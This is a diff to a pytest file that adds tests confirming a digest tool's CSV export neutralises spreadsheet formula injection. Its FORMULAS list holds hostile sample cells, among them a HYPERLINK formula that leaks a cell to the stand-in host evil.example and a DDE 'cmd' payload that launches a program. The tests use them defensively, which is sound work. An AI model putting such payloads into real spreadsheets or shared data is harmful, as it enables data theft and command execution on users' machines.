@@ -1,9 +1,11 @@
-"""Seed text in the digest's other outputs: every line printed into a CI log, where GitHub's
-runner obeys ``::command::`` at a line's start and ``##[command]`` anywhere."""
+"""Seed text in the digest's other outputs: the facts CSV opened in a spreadsheet, and every
+line printed into a CI log, where GitHub's runner obeys ``::command::`` at a line's start and
+``##[command]`` anywhere."""
 
 from __future__ import annotations
 
 import contextlib
+import csv
 import io
 import json
 import os
@@ -14,11 +16,14 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from digest.build import collect, digest_stage
 from digest.cli import _print_problems, main
-from digest.escape import log_line
+from digest.config import load_config
+from digest.escape import log_line, spreadsheet_cell
+from digest.export import fact_records
 from digest.model import Problem, Severity
 
-from .conftest import make_project
+from .conftest import BUILD_TIME, make_project
 
 PROSE = ("Der Konzern investiert in diesem Jahr deutlich mehr Geld in neue Rechenzentren, "
          "sagte die Sprecherin am Montag in Wien. Der Umsatz sank um -5 Prozent auf "
@@ -132,3 +137,64 @@ def test_log_line_is_one_line_and_no_command(text: str) -> None:
     assert len(line.splitlines()) <= 1
     assert not line.lstrip().startswith("::")
     assert "##[" not in line
+
+
+# ---------------------------------------------------------------------------- facts CSV
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "+SUM(1,2)",
+            "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1+1", "  =1+1", "＝1+1"]
+# OWASP's triggers; a cell may start with them only as a number the digest computed.
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝")
+NUMBER_COLUMNS = {"value", "value_to", "eur", "year", "month", "day"}
+
+
+def test_facts_csv_cells_cannot_run_as_formulas(tmp_path: Path) -> None:
+    """Title, fact text and names that start like a formula are prefixed with a quote in
+    facts.csv (a negative computed value stays a number); facts.json keeps them as they are."""
+    project = make_project(tmp_path, {"evil.md": front_matter(
+        FORMULAS[0], tags=[], orgs=FORMULAS[1:4], persons=FORMULAS[4:], key="summary2")})
+    config = load_config(project / "mkdocs.yml")
+    digest_stage(config, build_time=BUILD_TIME)
+    feeds = project / "content" / "feeds"
+    records = json.loads((feeds / "facts.json").read_text())
+    with (feeds / "facts.csv").open(newline="") as f:
+        rows = list(csv.DictReader(f))
+
+    entries, _ = collect(config, build_time=BUILD_TIME)
+    assert records == fact_records(entries, config)
+    assert records[0]["article_title"] == FORMULAS[0]
+    names = {r["name"] for r in records}
+    assert {"+SUM(1,2)", "@SUM(1)", "-2+3+cmd|' /C calc'!A0"} <= names
+    assert any(r["value"] == "-5" for r in records)
+
+    assert len(rows) == len(records)
+    neutralised = 0
+    for row, record in zip(rows, records, strict=True):
+        for column, cell in row.items():
+            raw = record[column]
+            if cell != raw:
+                assert cell == "'" + raw, (column, cell)
+                neutralised += 1
+            if column in NUMBER_COLUMNS and re.fullmatch(r"-?\d+(\.\d+)?", cell):
+                continue
+            assert not cell.startswith(TRIGGERS), (column, cell)
+            assert not cell.lstrip().startswith(TRIGGERS), (column, cell)
+    assert any(r["value"] == "-5" for r in rows)
+    assert neutralised >= len(names & set(FORMULAS)) + 1
+
+
+@pytest.mark.parametrize(("text", "number", "cell"), [
+    ("=1+1", False, "'=1+1"),
+    ("-5", True, "-5"),
+    ("-1.5E+7", True, "-1.5E+7"),
+    ("-5", False, "'-5"),
+    ("-5 Prozent", True, "'-5 Prozent"),
+    ("-Infinity", True, "'-Infinity"),
+    ("\r=1", False, "'\r=1"),
+    ("ByteDance", False, "ByteDance"),
+    ("", False, ""),
+])
+def test_spreadsheet_cell(text: str, number: bool, cell: str) -> None:
+    """OWASP's rule, with plain numbers kept where the digest writes numbers."""
+    assert spreadsheet_cell(text, number=number) == cell
